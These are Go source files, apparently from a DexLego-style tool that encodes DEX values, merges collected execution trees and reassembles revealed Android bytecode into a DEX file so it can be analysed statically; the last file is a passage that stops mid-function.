// IntValue returns an int encoded value.
func IntValue(v int64) Value { return Value{Kind: ValueInt, Int: v} }

// BoolValue returns a boolean encoded value.
func BoolValue(v bool) Value {
	var i int64
	if v {
		i = 1
	}
	return Value{Kind: ValueBoolean, Int: i}
}

// StringValue returns a string encoded value referencing string index idx.
func StringValue(idx uint32) Value { return Value{Kind: ValueString, Index: idx} }

// NullValue returns the null encoded value.
func NullValue() Value { return Value{Kind: ValueNull} }

func (v Value) String() string {
	switch v.Kind {
	case ValueNull:
		return "null"
	case ValueBoolean:
		if v.Int != 0 {
			return "true"
		}
		return "false"
	case ValueString:
		return fmt.Sprintf("string@%d", v.Index)
	case ValueType:
		return fmt.Sprintf("type@%d", v.Index)
	default:
		return fmt.Sprintf("%d", v.Int)
	}
}

// appendEncodedValue appends the encoded_value representation of v.
func appendEncodedValue(b []byte, v Value) ([]byte, error) {
	emit := func(bits int64, maxBytes int) {
		// Minimal little-endian, sign-extended byte count (at least one).
		n := 1
		for n < maxBytes {
			trunc := bits << (64 - 8*uint(n)) >> (64 - 8*uint(n))
			if trunc == bits {
				break
			}
			n++
		}
		b = append(b, byte(uint(v.Kind))|byte(n-1)<<5)
		for i := 0; i < n; i++ {
			b = append(b, byte(uint64(bits)>>(8*uint(i))))
		}
	}
	switch v.Kind {
	case ValueByte:
		if v.Int < -128 || v.Int > 127 {
			return nil, fmt.Errorf("dex: byte value %d out of range", v.Int)
		}
		b = append(b, byte(v.Kind), byte(v.Int))
	case ValueShort:
		if v.Int < -32768 || v.Int > 32767 {
			return nil, fmt.Errorf("dex: short value %d out of range", v.Int)
		}
		emit(v.Int, 2)
	case ValueInt:
		if v.Int < -(1<<31) || v.Int >= 1<<31 {
			return nil, fmt.Errorf("dex: int value %d out of range", v.Int)
		}
		emit(v.Int, 4)
	case ValueLong:
		emit(v.Int, 8)
	case ValueString, ValueType:
		// Unsigned index, minimal bytes.
		n := 1
		for n < 4 && v.Index>>(8*uint(n)) != 0 {
			n++
		}
		b = append(b, byte(uint(v.Kind))|byte(n-1)<<5)
		for i := 0; i < n; i++ {
			b = append(b, byte(v.Index>>(8*uint(i))))
		}
	case ValueNull:
		b = append(b, byte(v.Kind))
	case ValueBoolean:
		b = append(b, byte(uint(v.Kind))|byte(v.Int&1)<<5)
	default:
		return nil, fmt.Errorf("dex: unsupported encoded value kind %#x", uint8(v.Kind))
	}
	return b, nil
}

// readEncodedValue parses one encoded_value at off.
func readEncodedValue(b []byte, off int) (Value, int, error) {
	if off >= len(b) {
		return Value{}, off, fmt.Errorf("dex: truncated encoded value")
	}
	head := b[off]
	off++
	kind := ValueKind(head & 0x1f)
	arg := int(head >> 5)
	readBytes := func(n int) (uint64, error) {
		if off+n > len(b) {
			return 0, fmt.Errorf("dex: truncated encoded value payload")
		}
		var bits uint64
		for i := 0; i < n; i++ {
			bits |= uint64(b[off+i]) << (8 * uint(i))
		}
		off += n
		return bits, nil
	}
	switch kind {
	case ValueByte:
		bits, err := readBytes(1)
		if err != nil {
			return Value{}, off, err
		}
		return Value{Kind: kind, Int: int64(int8(bits))}, off, nil
	case ValueShort, ValueInt, ValueLong:
		n := arg + 1
		bits, err := readBytes(n)
		if err != nil {
			return Value{}, off, err
		}
		signed := int64(bits) << (64 - 8*uint(n)) >> (64 - 8*uint(n))
		return Value{Kind: kind, Int: signed}, off, nil
	case ValueString, ValueType:
		bits, err := readBytes(arg + 1)
		if err != nil {
			return Value{}, off, err
		}
		return Value{Kind: kind, Index: uint32(bits)}, off, nil
	case ValueNull:
		return Value{Kind: kind}, off, nil
	case ValueBoolean:
		return Value{Kind: kind, Int: int64(arg & 1)}, off, nil
	default:
		return Value{}, off, fmt.Errorf("dex: unsupported encoded value kind %#x", uint8(kind))
	}
}

// countInsns counts decodable instructions in a code array; payload regions
// are skipped. Undecodable bodies count as zero.
func countInsns(insns []uint16) int {
	placed, err := bytecode.DecodeAll(insns)
	if err != nil {
		return 0
	}
	return len(placed)
}
