package reassembler

import (
	"sort"

	"dexlego/internal/collector"
)

// mergeCompatibleTrees unions collection trees that are consistent with one
// another: executions that merely covered different branches of the same
// underlying code (every shared dex_pc holds the identical instruction, and
// self-modification layers fork at the same points with identical content)
// collapse into a single tree. Only genuinely conflicting trees — different
// bytecode at the same dex_pc, i.e. cross-execution self-modification —
// remain separate and become method variants.
//
// The pass is single-pass over the input with two dedup keys: exact
// duplicates are dropped by their canonical tree fingerprint (the same key
// the collector and Result.Merge dedup on), and merge candidates are
// bucketed by root SmStart — the first thing compatible() checks — so each
// tree compares only against the few survivors it could possibly union
// with. Survivors are copy-on-write: a tree is cloned only when another
// tree actually merges into it, so the dominant single-tree method pays
// nothing and callers must treat the returned trees as read-only.
func mergeCompatibleTrees(trees []*collector.TreeNode) []*collector.TreeNode {
	if len(trees) <= 1 {
		return trees
	}
	out := make([]*collector.TreeNode, 0, len(trees))
	owned := make([]bool, len(trees))
	seen := make(map[string]struct{}, len(trees))
	byStart := make(map[int][]int, len(trees))
	for _, t := range trees {
		fp := t.Fingerprint()
		if _, dup := seen[fp]; dup {
			continue
		}
		seen[fp] = struct{}{}
		merged := false
		for _, oi := range byStart[t.SmStart] {
			if compatible(out[oi], t) {
				if !owned[oi] {
					out[oi] = cloneTree(out[oi], nil)
					owned[oi] = true
				}
				union(out[oi], t)
				merged = true
				break
			}
		}
		if !merged {
			byStart[t.SmStart] = append(byStart[t.SmStart], len(out))
			out = append(out, t)
		}
	}
	return out
}

// compatible reports whether b can be unioned into a without conflicts.
func compatible(a, b *collector.TreeNode) bool {
	if a.SmStart != b.SmStart {
		return false
	}
	for pc, bi := range b.IIM {
		if ai, ok := a.IIM[pc]; ok {
			if !a.IL[ai].Inst.Equal(b.IL[bi].Inst) {
				return false
			}
		}
	}
	// Children pair by SmStart; a child present in both must be compatible.
	for _, bc := range b.Children {
		for _, ac := range a.Children {
			if ac.SmStart == bc.SmStart && !compatible(ac, bc) {
				return false
			}
		}
	}
	return true
}

// union merges b's entries and children into a (which must be compatible
// and owned by the caller; b is never mutated).
func union(a, b *collector.TreeNode) {
	for _, e := range b.IL {
		if _, ok := a.IIM[e.DexPC]; ok {
			continue
		}
		a.IIM[e.DexPC] = len(a.IL)
		a.IL = append(a.IL, e)
	}
	if a.SmEnd < 0 {
		a.SmEnd = b.SmEnd
	}
	for _, bc := range b.Children {
		var match *collector.TreeNode
		for _, ac := range a.Children {
			if ac.SmStart == bc.SmStart && compatible(ac, bc) {
				match = ac
				break
			}
		}
		if match != nil {
			union(match, bc)
			continue
		}
		a.Children = append(a.Children, cloneTree(bc, a))
	}
	sort.Slice(a.Children, func(i, j int) bool {
		return a.Children[i].SmStart < a.Children[j].SmStart
	})
}

func cloneTree(n *collector.TreeNode, parent *collector.TreeNode) *collector.TreeNode {
	out := &collector.TreeNode{
		IL:      append([]collector.Entry(nil), n.IL...),
		IIM:     make(map[int]int, len(n.IIM)),
		SmStart: n.SmStart,
		SmEnd:   n.SmEnd,
		Parent:  parent,
	}
	for k, v := range n.IIM {
		out.IIM[k] = v
	}
	for _, c := range n.Children {
		out.Children = append(out.Children, cloneTree(c, out))
	}
	return out
}
