// Package reassembler implements DexLego's offline reassembling phase: it
// turns a collection result (trees of executed instructions plus DEX
// metadata) back into a valid DEX file.
//
// Each collection tree is flattened into one instruction array. A leaf is
// merged into its parent by inserting a synthetic conditional branch at the
// divergence point — `sget-boolean` on a fresh static field of the
// LModification; instrument class followed by `if-nez` into the leaf's code —
// so static analysis treats both the original and the self-modified code as
// reachable (Section IV-B of the paper). Distinct instruction arrays of one
// method become method variants behind the same synthetic-branch dispatch.
// Reflective Method.invoke call sites are rewritten into direct calls
// through generated bridge methods, and never-executed branch targets are
// routed to a shared default-return trailer, which is what removes
// dead-code false positives downstream.
package reassembler

import (
	"bytes"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"dexlego/internal/apk"
	"dexlego/internal/bytecode"
	"dexlego/internal/collector"
	"dexlego/internal/dex"
	"dexlego/internal/dexgen"
	"dexlego/internal/obs"
)

// Instrumentation class and bridge class descriptors.
const (
	InstrumentClass = "LModification;"
	BridgeClass     = "LReflBridge;"
)

// Stats summarizes a reassembly.
type Stats struct {
	Classes            int
	Methods            int
	ExecutedMethods    int
	Stubs              int
	Variants           int // extra bodies emitted for multi-tree methods
	Divergences        int // self-modification layers merged
	ReflectionRewrites int
	InstrumentFields   int
}

// Reassemble builds a DEX file from a collection result.
func Reassemble(res *collector.Result) (*dex.File, *Stats, error) {
	return ReassembleWith(res, nil)
}

// ReassembleWith is Reassemble with trace events (stub emissions, variant
// merges, reflection rewrites) attributed to span; nil disables them.
func ReassembleWith(res *collector.Result, span *obs.Span) (*dex.File, *Stats, error) {
	return ReassembleCfg(res, span, Config{})
}

// Config parameterizes a reassembly run.
type Config struct {
	// Workers bounds the parallel method-assembly and index-remap fan-out
	// of the generated program: 0 selects GOMAXPROCS, 1 forces the serial
	// path. Serial and parallel reassembly produce byte-identical DEX
	// output (pinned by TestSerialParallelByteIdentical).
	Workers int

	// Fetch resolves a method record spilled out of the result mid-reveal
	// (keyed "Lclass;->name(sig)"). It is consulted only when the result
	// map has no record for an executed method, so a nil Fetch reproduces
	// the all-resident behavior exactly. Classes are emitted serially, so
	// Fetch need not be safe for concurrent use.
	Fetch func(key string) (*collector.MethodRecord, bool)

	// Stream selects the windowed section-streaming DEX writer
	// (dex.File.WriteStream) over the buffered one. Output is
	// byte-identical either way (pinned by TestWriteStreamIdentity); the
	// streaming path trades a second encode pass for never holding the
	// whole image plus its sections in memory at once.
	Stream bool
}

// ReassembleCfg is ReassembleWith with explicit parallelism configuration.
func ReassembleCfg(res *collector.Result, span *obs.Span, cfg Config) (*dex.File, *Stats, error) {
	p := dexgen.New()
	p.SetWorkers(cfg.Workers)
	ra := &reassembler{
		p:     p,
		res:   res,
		stats: &Stats{},
		span:  span,
		fetch: cfg.Fetch,
	}
	if err := ra.run(); err != nil {
		return nil, nil, err
	}
	f, err := ra.p.Finish()
	if err != nil {
		return nil, nil, err
	}
	return f, ra.stats, nil
}

// ReassembleAPK rebuilds the APK with the revealed classes.dex, mirroring
// the paper's use of AAPT to swap the DEX inside the original package.
func ReassembleAPK(orig *apk.APK, res *collector.Result) (*apk.APK, *Stats, error) {
	return ReassembleAPKWith(orig, res, nil)
}

// ReassembleAPKWith is ReassembleAPK with trace events attributed to span.
func ReassembleAPKWith(orig *apk.APK, res *collector.Result, span *obs.Span) (*apk.APK, *Stats, error) {
	return ReassembleAPKCfg(orig, res, span, Config{})
}

// ReassembleAPKCfg is ReassembleAPKWith with explicit parallelism
// configuration.
func ReassembleAPKCfg(orig *apk.APK, res *collector.Result, span *obs.Span, cfg Config) (*apk.APK, *Stats, error) {
	f, stats, err := ReassembleCfg(res, span, cfg)
	if err != nil {
		return nil, nil, err
	}
	var data []byte
	if cfg.Stream {
		var buf bytes.Buffer
		if _, err := f.WriteStream(&buf); err != nil {
			return nil, nil, err
		}
		data = buf.Bytes()
	} else {
		data, err = f.Write()
		if err != nil {
			return nil, nil, err
		}
	}
	out := orig.Clone()
	out.SetDex(data)
	return out, stats, nil
}

type reassembler struct {
	p     *dexgen.Program
	res   *collector.Result
	stats *Stats
	span  *obs.Span
	fetch func(key string) (*collector.MethodRecord, bool)

	instrCls      *dexgen.Class
	bridgeCls     *dexgen.Class
	bridgeCounter int
	fieldCounter  map[string]int

	// Pooled hot-path scratch, reused across every method and class of the
	// run. flat is the shared flattener for methods without try tables (their
	// state is fully consumed inside the synchronous Build call); methods
	// that re-anchor tries get a fresh flattener because mapTries runs later,
	// at Program.Finish. entryBuf/idBuf are sort and switch-target scratch,
	// safe to share because each is dead before any reuse point.
	flat      flattener
	flatBuild func(a *dexgen.Asm)
	entryBuf  []collector.Entry
	idBuf     []bytecode.LabelID
	stubBuild map[string]func(a *dexgen.Asm)
	sigCache  map[string]sigParts
}

type sigParts struct {
	params []string
	ret    string
}

func (ra *reassembler) run() error {
	ra.fieldCounter = make(map[string]int)
	ra.stubBuild = make(map[string]func(a *dexgen.Asm))
	ra.sigCache = make(map[string]sigParts)
	ra.flatBuild = func(a *dexgen.Asm) { ra.flat.emit(a) }
	for ci := range ra.res.Classes {
		if err := ra.emitClass(&ra.res.Classes[ci]); err != nil {
			return err
		}
	}
	return nil
}

// parseSig memoizes dex.ParseSignature: a few distinct signatures cover most
// methods of an app, and the parse allocates a params slice per call.
func (ra *reassembler) parseSig(sig string) ([]string, string, error) {
	if sp, ok := ra.sigCache[sig]; ok {
		return sp.params, sp.ret, nil
	}
	params, ret, err := dex.ParseSignature(sig)
	if err != nil {
		return nil, "", err
	}
	ra.sigCache[sig] = sigParts{params: params, ret: ret}
	return params, ret, nil
}

func (ra *reassembler) instrumentField(rec *collector.MethodRecord) string {
	if ra.instrCls == nil {
		ra.instrCls = ra.p.Class(InstrumentClass, "")
	}
	base := sanitize(rec.Class + "_" + rec.Name)
	n := ra.fieldCounter[base]
	ra.fieldCounter[base] = n + 1
	name := base + "_" + strconv.Itoa(n)
	// Deliberately non-final and defaulted: the value is runtime-dependent
	// (the paper uses random values), so value-sensitive analyses must treat
	// both branches as reachable.
	ra.instrCls.StaticBool(name, false)
	ra.stats.InstrumentFields++
	return name
}

func sanitize(s string) string {
	var sb strings.Builder
	for _, r := range s {
		switch {
		case r >= 'a' && r <= 'z', r >= 'A' && r <= 'Z', r >= '0' && r <= '9':
			sb.WriteRune(r)
		default:
			sb.WriteByte('_')
		}
	}
	return strings.Trim(sb.String(), "_")
}

func (ra *reassembler) emitClass(cr *collector.ClassRecord) error {
	super := cr.Superclass
	cls := ra.p.ClassWithFlags(cr.Descriptor, cr.AccessFlags, super, cr.Interfaces...)
	ra.stats.Classes++
	if cr.SourceFile != "" {
		cls.Source(cr.SourceFile)
	}
	for _, f := range cr.StaticFields {
		cls.StaticInit(f.Name, f.Type, f.AccessFlags, ra.dexValue(f))
	}
	for _, f := range cr.InstanceFields {
		cls.FieldWithFlags(f.Name, f.Type, f.AccessFlags)
	}
	for _, sh := range cr.Methods {
		key := cr.Descriptor + "->" + sh.Name + sh.Signature
		rec := ra.res.Methods[key]
		if rec == nil && ra.fetch != nil {
			if fr, ok := ra.fetch(key); ok {
				rec = fr
			}
		}
		params, ret, err := ra.parseSig(sh.Signature)
		if err != nil {
			return fmt.Errorf("reassembler: %s: %w", key, err)
		}
		ra.stats.Methods++
		switch {
		case sh.Native:
			cls.NativeM(sh.Name, ret, params, sh.Virtual)
		case sh.AccessFlags&dex.AccAbstract != 0:
			cls.AbstractM(sh.Name, ret, params)
		case rec != nil && rec.Executed():
			ra.stats.ExecutedMethods++
			if err := ra.emitExecuted(cls, rec, sh, ret, params); err != nil {
				return err
			}
		default:
			ra.stats.Stubs++
			if ra.span.Enabled() {
				ra.span.StubEmitted(key)
			}
			ra.emitStub(cls, sh.Name, ret, params, sh.AccessFlags)
		}
	}
	return nil
}

func (ra *reassembler) dexValue(f collector.FieldRecord) *dex.Value {
	if f.Value == nil {
		return nil
	}
	switch f.Value.Kind {
	case "string":
		v := dex.StringValue(ra.p.Builder().String(f.Value.Str))
		return &v
	case "null":
		v := dex.NullValue()
		return &v
	default:
		var v dex.Value
		switch f.Type {
		case "Z":
			v = dex.BoolValue(f.Value.Int != 0)
		case "J":
			v = dex.Value{Kind: dex.ValueLong, Int: f.Value.Int}
		default:
			v = dex.IntValue(f.Value.Int)
		}
		return &v
	}
}

func (ra *reassembler) emitStub(cls *dexgen.Class, name, ret string, params []string, flags uint32) {
	ins := len(params)
	if flags&dex.AccStatic == 0 {
		ins++
	}
	cls.RawMethod(name, ret, params, flags, dexgen.RawCode{
		Registers: ins + 1,
		Ins:       ins,
		Build:     ra.stubBuilder(ret),
	})
}

// stubBuilder returns the Build callback emitting a default-return body for
// ret, cached per return type: stub bodies depend on nothing else, and large
// apps emit thousands of them.
func (ra *reassembler) stubBuilder(ret string) func(a *dexgen.Asm) {
	if fn, ok := ra.stubBuild[ret]; ok {
		return fn
	}
	fn := func(a *dexgen.Asm) { emitDefaultReturn(a, ret) }
	ra.stubBuild[ret] = fn
	return fn
}

func emitDefaultReturn(a *dexgen.Asm, ret string) {
	switch {
	case ret == "V":
		a.ReturnVoid()
	case ret[0] == 'L' || ret[0] == '[':
		a.Const(0, 0)
		a.ReturnObj(0)
	default:
		a.Const(0, 0)
		a.Return(0)
	}
}

func (ra *reassembler) emitExecuted(cls *dexgen.Class, rec *collector.MethodRecord, sh collector.MethodShell, ret string, params []string) error {
	trees := mergeCompatibleTrees(rec.Trees)
	if len(rec.Trees) > 1 && ra.span.Enabled() {
		ra.span.MergeVariant(rec.Key(), len(rec.Trees), len(trees))
	}
	if len(trees) == 1 {
		return ra.emitTreeMethod(cls, rec, sh.Name, sh.AccessFlags, ret, params, trees[0], true)
	}
	// Multiple irreconcilable instruction arrays: emit variants plus a
	// dispatcher.
	rec = recWithTrees(rec, trees)
	for k, tree := range rec.Trees {
		vname := fmt.Sprintf("%s$v%d", sh.Name, k)
		vflags := sh.AccessFlags
		if vflags&dex.AccStatic == 0 && !rec.Virtual {
			vflags |= dex.AccPrivate // direct-dispatch variant for constructors
		}
		vflags &^= dex.AccConstructor
		if err := ra.emitTreeMethod(cls, rec, vname, vflags, ret, params, tree, false); err != nil {
			return err
		}
		ra.stats.Variants++
	}
	ra.emitDispatcher(cls, rec, sh, ret, params)
	return nil
}

// emitDispatcher generates the original-name method that selects among the
// variant bodies through instrument-class fields.
func (ra *reassembler) emitDispatcher(cls *dexgen.Class, rec *collector.MethodRecord, sh collector.MethodShell, ret string, params []string) {
	k := len(rec.Trees)
	fields := make([]string, 0, k-1)
	for i := 1; i < k; i++ {
		fields = append(fields, ra.instrumentField(rec))
	}
	var op bytecode.Opcode
	switch {
	case sh.AccessFlags&dex.AccStatic != 0:
		op = bytecode.OpInvokeStaticR
	case rec.Virtual:
		op = bytecode.OpInvokeVirtualR
	default:
		op = bytecode.OpInvokeDirectR
	}
	cls.RawMethod(sh.Name, ret, params, sh.AccessFlags, dexgen.RawCode{
		Registers: 2 + rec.InsSize,
		Ins:       rec.InsSize,
		Build: func(a *dexgen.Asm) {
			for i := 1; i < k; i++ {
				a.SGetBool(0, InstrumentClass, fields[i-1])
				a.Raw().RawBranch(bytecode.Inst{Op: bytecode.OpIfNez, A: 0},
					fmt.Sprintf("variant%d", i))
			}
			ra.emitVariantCall(a, rec, sh, op, ret, 0)
			for i := 1; i < k; i++ {
				a.Label(fmt.Sprintf("variant%d", i))
				ra.emitVariantCall(a, rec, sh, op, ret, i)
			}
		},
	})
}

func (ra *reassembler) emitVariantCall(a *dexgen.Asm, rec *collector.MethodRecord, sh collector.MethodShell, op bytecode.Opcode, ret string, k int) {
	idx, err := ra.p.Builder().MethodSig(rec.Class, fmt.Sprintf("%s$v%d", sh.Name, k), rec.Signature)
	if err != nil {
		// Signature was validated by the caller; surface through dexgen.
		a.Raw().Nop()
		return
	}
	a.Raw().InvokeRange(op, idx, 2, rec.InsSize)
	a.NoteOuts(rec.InsSize)
	switch {
	case ret == "V":
		a.ReturnVoid()
	case ret[0] == 'L' || ret[0] == '[':
		a.MoveResultObject(1)
		a.ReturnObj(1)
	default:
		a.MoveResult(1)
		a.Return(1)
	}
}

// emitTreeMethod flattens one collection tree into one method body.
// withTries controls whether the original try/catch table is re-anchored
// (only for the primary, single-tree case; variants drop handlers that no
// longer apply).
func (ra *reassembler) emitTreeMethod(cls *dexgen.Class, rec *collector.MethodRecord, name string, flags uint32, ret string, params []string, tree *collector.TreeNode, withTries bool) error {
	withTries = withTries && len(rec.Tries) > 0
	var fl *flattener
	build := ra.flatBuild
	if withTries {
		// mapTries runs at Program.Finish, long after this call returns, so
		// the flattener's label bases and root spans must outlive the method.
		fl = &flattener{}
		build = func(a *dexgen.Asm) { fl.emit(a) }
	} else {
		fl = &ra.flat
	}
	*fl = flattener{
		ra:        ra,
		rec:       rec,
		tree:      tree,
		retType:   ret,
		grow:      len(tree.Children) > 0,
		oldLocals: int32(rec.RegistersSize - rec.InsSize),
		unexecID:  -1,
		spans:     withTries,
		rootSpans: fl.rootSpans[:0],
	}
	if fl.oldLocals < 0 {
		return fmt.Errorf("reassembler: %s: ins %d exceed registers %d",
			rec.Key(), rec.InsSize, rec.RegistersSize)
	}
	fl.scratch = fl.oldLocals
	regs := rec.RegistersSize
	if fl.grow {
		regs++
	}
	rc := dexgen.RawCode{
		Registers: regs,
		Ins:       rec.InsSize,
		Build:     build,
	}
	if withTries {
		rc.TriesFn = fl.mapTries
	}
	cls.RawMethod(name, ret, params, flags, rc)
	ra.stats.Divergences += countNodes(tree) - 1
	return fl.err
}

// recWithTrees returns a shallow copy of rec carrying the merged tree set.
func recWithTrees(rec *collector.MethodRecord, trees []*collector.TreeNode) *collector.MethodRecord {
	out := *rec
	out.Trees = trees
	return &out
}

func countNodes(n *collector.TreeNode) int {
	total := 1
	for _, c := range n.Children {
		total += countNodes(c)
	}
	return total
}

// flattener converts one collection tree into assembler items. It addresses
// every (node, dex_pc) layout position by an integer label: each tree node
// reserves a consecutive block of anonymous assembler labels, one per logged
// instruction, so a position resolves with one IIM lookup plus arithmetic —
// no label-name strings and no per-method label map.
type flattener struct {
	ra      *reassembler
	rec     *collector.MethodRecord
	tree    *collector.TreeNode
	a       *dexgen.Asm
	asm     *bytecode.Assembler
	retType string

	grow      bool
	oldLocals int32
	scratch   int32
	rootBase  bytecode.LabelID                       // label block of the root node
	nodeBase  map[*collector.TreeNode]bytecode.LabelID // non-root blocks; nil until a child exists
	unexec    bool
	unexecID  bytecode.LabelID // -1 until the first unexecuted target
	spans     bool             // record rootSpans (only try re-anchoring needs them)
	err       error

	rootSpans []rootSpan // for try-table re-anchoring
}

type rootSpan struct {
	origPC int
	id     bytecode.LabelID
	width  int
}

func (fl *flattener) assignBases(n *collector.TreeNode) {
	base := fl.asm.NewLabelBlock(len(n.IL))
	if n == fl.tree {
		fl.rootBase = base
	} else {
		if fl.nodeBase == nil {
			fl.nodeBase = make(map[*collector.TreeNode]bytecode.LabelID, 4)
		}
		fl.nodeBase[n] = base
	}
	for _, c := range n.Children {
		fl.assignBases(c)
	}
}

// labelAt returns the label for the instruction n logged at pc.
func (fl *flattener) labelAt(n *collector.TreeNode, pc int) bytecode.LabelID {
	idx, ok := n.IIM[pc]
	if !ok {
		// No instruction at pc: a fresh label that is never bound, so
		// assembly reports it undefined (same diagnostic as named labels).
		return fl.asm.NewLabel()
	}
	if n == fl.tree {
		return fl.rootBase + bytecode.LabelID(idx)
	}
	return fl.nodeBase[n] + bytecode.LabelID(idx)
}

// resolve maps an original dex_pc reference from node n to a layout label,
// walking ancestors; unexecuted targets go to the shared trailer.
func (fl *flattener) resolve(n *collector.TreeNode, pc int) bytecode.LabelID {
	for k := n; k != nil; k = k.Parent {
		if _, ok := k.IIM[pc]; ok {
			return fl.labelAt(k, pc)
		}
	}
	if fl.unexecID < 0 {
		fl.unexecID = fl.asm.NewLabel()
	}
	fl.unexec = true
	return fl.unexecID
}

func (fl *flattener) emit(a *dexgen.Asm) {
	fl.a = a
	fl.asm = a.Raw()
	fl.assignBases(fl.tree)
	fl.emitNode(fl.tree)
	if fl.unexec {
		fl.asm.BindLabel(fl.unexecID)
		emitDefaultReturn(a, fl.retType)
	}
}

func entriesSorted(il []collector.Entry) bool {
	for i := 1; i < len(il); i++ {
		if il[i].DexPC < il[i-1].DexPC {
			return false
		}
	}
	return true
}

func childrenSorted(cs []*collector.TreeNode) bool {
	for i := 1; i < len(cs); i++ {
		if cs[i].SmStart < cs[i-1].SmStart {
			return false
		}
	}
	return true
}

func (fl *flattener) emitNode(n *collector.TreeNode) {
	// The collection tree is shared (merge is copy-on-write), so sorting
	// never touches n.IL/n.Children: already-ordered nodes are used in
	// place, out-of-order entries sort in pooled scratch. The scratch is
	// free to reuse during child recursion because the entry loop below
	// completes before the first recursive call.
	entries := n.IL
	if !entriesSorted(entries) {
		buf := append(fl.ra.entryBuf[:0], entries...)
		sort.Slice(buf, func(i, j int) bool { return buf[i].DexPC < buf[j].DexPC })
		fl.ra.entryBuf = buf
		entries = buf
	}
	children := n.Children
	if !childrenSorted(children) {
		children = append([]*collector.TreeNode(nil), n.Children...)
		sort.Slice(children, func(i, j int) bool { return children[i].SmStart < children[j].SmStart })
	}

	for i, e := range entries {
		id := fl.labelAt(n, e.DexPC)
		fl.asm.BindLabel(id)
		if fl.spans && n == fl.tree {
			fl.rootSpans = append(fl.rootSpans, rootSpan{
				origPC: e.DexPC,
				id:     id,
				width:  e.Inst.Width(),
			})
		}
		// Divergence detours: one synthetic conditional per child forking
		// at this dex_pc.
		for _, c := range children {
			if c.SmStart != e.DexPC {
				continue
			}
			field := fl.ra.instrumentField(fl.rec)
			fl.a.SGetBool(fl.scratch, InstrumentClass, field)
			fl.asm.RawBranchID(bytecode.Inst{Op: bytecode.OpIfNez, A: fl.scratch},
				fl.labelAt(c, c.SmStart))
		}
		fl.emitEntry(n, e)
		// Fall-through repair: collected code lays out sparsely, so an
		// implicit fall-through to a non-adjacent (or divergent) successor
		// becomes an explicit goto.
		if !e.Inst.Op.IsTerminator() {
			nextPC := e.DexPC + e.Inst.Width()
			natural := i+1 < len(entries) && entries[i+1].DexPC == nextPC
			if !natural {
				fl.asm.GotoID(fl.resolve(n, nextPC))
			}
		}
	}
	for _, c := range children {
		fl.emitNode(c)
	}
}

func (fl *flattener) emitEntry(n *collector.TreeNode, e collector.Entry) {
	// Value copy: every mutation below either reassigns a scalar field or
	// replaces a slice header, so the tree's entry is never written through.
	in := e.Inst
	sym := e.Sym

	// Reflection-to-direct-call rewriting.
	if targets, ok := fl.rec.ReflTargets[e.DexPC]; ok && isMethodInvoke(e) && len(in.Args) == 3 {
		bridge := fl.ra.bridgeFor(targets)
		in = bytecode.Inst{
			Op:    bytecode.OpInvokeStatic,
			Args:  []int{in.Args[1], in.Args[2]}, // drop the Method receiver
			A:     2,
			Index: 0,
		}
		sym = &collector.Symbol{
			Kind: bytecode.IndexMethod,
			Method: dex.MethodRef{
				Class:     BridgeClass,
				Name:      bridge,
				Signature: "(Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;",
			},
		}
		fl.ra.stats.ReflectionRewrites++
		if fl.ra.span.Enabled() {
			fl.ra.span.ReflectionRewrite(fl.rec.Key(), e.DexPC, BridgeClass+"->"+bridge)
		}
	}

	if fl.grow {
		in = bytecode.MapRegisters(in, func(r int32) int32 {
			if r >= fl.oldLocals {
				return r + 1
			}
			return r
		})
	}
	if err := fl.setIndex(&in, sym); err != nil {
		fl.fail(err)
		return
	}
	if in.Op.IsInvoke() {
		fl.a.NoteOuts(len(in.Args))
	}

	switch {
	case in.Op.IsBranch() || in.Op.IsGoto():
		target := e.DexPC + int(e.Inst.Off)
		in.Off = 0
		if in.Op == bytecode.OpGoto {
			in.Op = bytecode.OpGoto16 // uniform reach after relayout
		}
		fl.asm.RawBranchID(in, fl.resolve(n, target))
	case in.Op.IsSwitch():
		ids := fl.ra.idBuf[:0]
		for _, t := range e.Inst.Targets {
			ids = append(ids, fl.resolve(n, e.DexPC+int(t)))
		}
		fl.ra.idBuf = ids
		in.Targets = nil
		in.Off = 0
		fl.asm.RawSwitchID(in, ids)
	default:
		fl.asm.Raw(in)
	}
}

func (fl *flattener) fail(err error) {
	if fl.err == nil {
		fl.err = err
	}
}

func (fl *flattener) setIndex(in *bytecode.Inst, sym *collector.Symbol) error {
	if in.Op.Index() == bytecode.IndexNone {
		return nil
	}
	if sym == nil {
		return fmt.Errorf("reassembler: %s: missing symbol for %s", fl.rec.Key(), in.Op)
	}
	b := fl.ra.p.Builder()
	switch sym.Kind {
	case bytecode.IndexString:
		in.Index = b.String(sym.Str)
	case bytecode.IndexType:
		in.Index = b.Type(sym.Type)
	case bytecode.IndexField:
		in.Index = b.Field(sym.Field.Class, sym.Field.Name, sym.Field.Type)
	case bytecode.IndexMethod:
		idx, err := b.MethodSig(sym.Method.Class, sym.Method.Name, sym.Method.Signature)
		if err != nil {
			return fmt.Errorf("reassembler: %s: %w", fl.rec.Key(), err)
		}
		in.Index = idx
	}
	return nil
}

// mapTries re-anchors the original try table onto the flattened root-node
// layout: each original range becomes one try per contiguous run of emitted
// root instructions inside it. It runs at Program.Finish, after assembly
// resolved every label position.
func (fl *flattener) mapTries(labels *bytecode.Labels) ([]dex.Try, error) {
	spans := fl.rootSpans
	if !sort.SliceIsSorted(spans, func(i, j int) bool { return spans[i].origPC < spans[j].origPC }) {
		spans = append([]rootSpan(nil), spans...)
		sort.Slice(spans, func(i, j int) bool { return spans[i].origPC < spans[j].origPC })
	}
	// Root-span labels are always bound, so the missing-label case of
	// pcOf never fires for them; handlers go through resolveHandler,
	// which keeps the ok bit.
	pcOf := func(id bytecode.LabelID) int {
		pc, _ := labels.PC(id)
		return pc
	}
	var out []dex.Try
	for _, tr := range fl.rec.Tries {
		inRange := make([]rootSpan, 0, len(spans))
		for _, sp := range spans {
			if sp.origPC >= tr.StartPC && sp.origPC < tr.StartPC+tr.Count {
				inRange = append(inRange, sp)
			}
		}
		if len(inRange) == 0 {
			continue
		}
		resolveHandler := func(pc int) (uint32, bool) {
			newPC, ok := labels.PC(fl.resolve(fl.tree, pc))
			return uint32(newPC), ok
		}
		// Split into runs contiguous in the NEW layout.
		runStart := 0
		for i := 1; i <= len(inRange); i++ {
			contiguous := i < len(inRange) &&
				pcOf(inRange[i].id) == pcOf(inRange[i-1].id)+inRange[i-1].width
			if contiguous {
				continue
			}
			first, last := inRange[runStart], inRange[i-1]
			start := pcOf(first.id)
			end := pcOf(last.id) + last.width
			t := dex.Try{Start: uint32(start), Count: uint32(end - start), CatchAll: -1}
